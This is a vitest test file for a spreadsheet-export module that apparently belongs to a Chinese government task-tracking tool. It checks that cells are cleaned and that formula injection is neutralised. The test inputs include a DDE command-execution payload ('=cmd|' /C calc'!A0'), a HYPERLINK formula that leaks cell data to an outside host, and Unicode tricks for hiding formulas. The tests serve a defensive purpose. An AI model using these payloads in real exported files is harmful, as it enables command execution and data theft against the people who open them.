import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { cellsOf, cellText, headings, neutralised, type SheetRow } from '../../../src/core/progress/sheet.ts'

const ROW: SheetRow = {
  ordinal: '27',
  task: '可再生能源装机',
  leadUnits: ['省能源局'],
  supportingUnits: ['省发展改革委', '省自然资源厅'],
  deadlines: ['6月底前（2023-06-30）', '年底前（2023-12-31）'],
  targets: ['装机规模 >= 7500 万千瓦'],
  progress: '-5%\n后回升',
  state: '进行中',
  problems: [],
  updatedAt: '2023-06-01 09:00',
  responsibleUnits: [],
  nextStep: '',
  warning: '绿',
  documentNumber: '鲁政办字〔2023〕5号',
  documentTitle: '通知',
}

describe('a line of the sheet', () => {
  it('begins with the ten columns of the trade', () => {
    expect(headings.slice(0, 10)).toEqual('序号 任务 牵头 配合 时限 指标 进展 状态 问题 更新时间'.split(' '))
  })

  it('has its cells under their headings, lists joined, formulas neutralised', () => {
    expect(Object.fromEntries(cellsOf(ROW).map((cell, index) => [headings[index], cell]))).toEqual({
      序号: '27',
      任务: '可再生能源装机',
      牵头: '省能源局',
      配合: '省发展改革委、省自然资源厅',
      时限: '6月底前（2023-06-30）\n年底前（2023-12-31）',
      指标: '装机规模 >= 7500 万千瓦',
      进展: "'-5%\n后回升",
      状态: '进行中',
      问题: '',
      更新时间: '2023-06-01 09:00',
      责任单位: '',
      下步打算: '',
      预警: '绿',
      文号: '鲁政办字〔2023〕5号',
      文件: '通知',
    })
  })
})

describe('an apostrophe goes before what could begin a formula', () => {
  it.each([
    '=1+1',
    '+1',
    '-5%',
    '@SUM(A1)',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.cn?"&A1)',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    '﹦1',
    '﹢1',
    '﹣1',
    '﹫A1',
    '−1',
    '  =1',
    '\u3000=1',
    '\n\n=1',
    '\t1',
    '\r1',
    '\t=1',
    '\uFEFF=1',
    '\u200B=1',
    '\u0000=1',
  ])('%j', text => {
    expect(neutralised(text)).toBe(`'${text}`)
  })

  it.each([
    '',
    '完成80%',
    '1+1=2',
    '占比≥80',
    '——见附件',
    '（-5%）',
    "'=1",
    '"=1"',
    '_x003D_1',
    '\n一',
    '27',
    '2023-06-30',
  ])('not before %j', text => {
    expect(neutralised(text)).toBe(text)
  })
})

describe('text as a cell can hold it', () => {
  it.each([
    ['no control characters', 'a\u0000b\u001Bc\u007Fd', 'abcd'],
    ['one kind of line break', 'a\r\nb\rc\u2028d', 'a\nb\nc\nd'],
    ['no tab', 'a\tb', 'a b'],
    ['no half characters', '😀\uD83D一\uDE00', '😀\uFFFD一\uFFFD'],
    ['nothing XML has no place for', 'a\uFFFE\uFFFFb', 'ab'],
    ['no reversal of direction', 'a\u202Eb\u2066c', 'abc'],
    ['no space around it', ' \n一 二\n', '一 二'],
    ['no formula behind what was removed', '\u0001\u202E=1', "'=1"],
    ['no formula behind a tab', '\t=1', "'=1"],
  ])('has %s', (_, text, expected) => {
    expect(cellText(text)).toBe(expected)
  })

  it('is whole up to what Excel reads', () => {
    const longest = '长'.repeat(32_766)
    expect(cellText(longest)).toBe(longest)
  })

  it.each([
    ['a long text', '长'.repeat(40_000), 40_000],
    ['a long formula', `=${'1'.repeat(40_000)}`, 40_001],
    ['characters of two units', '😀'.repeat(20_000), 20_000],
    ['characters of two units, one off', `a${'😀'.repeat(20_000)}`, 20_001],
    ['the first that is too long', '长'.repeat(32_767), 32_767],
  ])('is cut where it is longer, and says how long it was: %s', (_, text, length) => {
    const cell = cellText(text)
    expect(cell.length).toBeLessThanOrEqual(32_767)
    expect(cell.length).toBeGreaterThan(32_700)
    expect(cell.endsWith(`…（共${length}字）`)).toBe(true)
    expect(cell.isWellFormed()).toBe(true)
  })

  it.each([
    [254, 253],
    [255, 253],
    [400, 253],
  ])('has at most 253 line breaks: %i lines', (count, breaks) => {
    const lines = Array.from({ length: count }, (_, index) => `${index}`)
    const cell = cellText(lines.join('\n'))
    expect(cell.split('\n')).toHaveLength(breaks + 1)
    expect(cell.split(/[\n ]/)).toEqual(lines)
  })

  it('never starts a formula, nor breaks a cell, whatever it was', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), fc.constantFrom('', '=', '\t', '＝', '\u0000+'), (tail, head) => {
        const cell = cellText(head + tail)
        expect(cell).not.toMatch(/^\s*[=+\-@＝＋－＠]/)
        expect(cell).not.toMatch(/[^\P{Cc}\n]|[\uFFFE\uFFFF]/u)
        expect(cell.isWellFormed()).toBe(true)
      }),
    )
  })
})
